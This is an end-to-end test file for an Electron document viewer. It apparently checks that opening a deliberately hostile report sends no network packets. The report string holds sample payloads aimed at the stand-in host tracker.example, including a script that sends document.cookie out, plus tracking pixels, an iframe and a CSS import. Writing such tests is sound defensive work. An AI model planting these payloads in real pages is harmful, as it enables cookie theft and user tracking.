/** Counts what leaves the machine while the app starts, imports a hostile report and shows it. */
import { execFile } from 'node:child_process';
import { access, writeFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { APP_FOLDER, electronExecutable } from '../fixtures/launch';
import { expect, test } from '../fixtures/test';

const runFile = promisify(execFile);
const WATCHED = resolve(import.meta.dirname, '../fixtures/watched-network.sh');

/** Everything in a text that some reader, somewhere, would fetch. */
const HOSTILE = `Quarterly outlook

<link rel="dns-prefetch" href="//tracker.example"><img src="https://tracker.example/pixel.png">
<script>fetch('https://tracker.example/' + document.cookie)</script>

![chart](https://tracker.example/chart.png) and [a link](https://tracker.example/) and https://tracker.example/bare

Figure 1: <iframe src="https://tracker.example/"></iframe>

Source: <style>@import url(https://tracker.example/style.css)</style>
`;

const hasTools = async () => {
  const tools = ['/usr/bin/unshare', '/usr/sbin/ip'];
  const found = await Promise.allSettled(tools.map((tool) => access(tool)));
  return process.getuid?.() === 0 && found.every(({ status }) => status === 'fulfilled');
};

test('not a packet leaves the machine', async ({ library }) => {
  test.skip(!(await hasTools()), 'SKIPPED: counting packets needs root, unshare and ip');
  const report = join(library, 'hostile.txt');
  await writeFile(report, HOSTILE);
  const { stdout } = await runFile(
    'unshare',
    [
      '--net',
      WATCHED,
      '12',
      electronExecutable(),
      '--no-sandbox',
      APP_FOLDER,
      '--library',
      join(library, 'library'),
      report,
    ],
    { env: { ...process.env, OFFPRINT_SCREENSHOT: '' } },
  );
  expect(stdout).toContain('offprint: opened Quarterly outlook');
  expect(stdout).toMatch(/^sent 0$/m);
  expect(Number(/^control (\d+)$/m.exec(stdout)?.[1])).toBeGreaterThan(0);
});
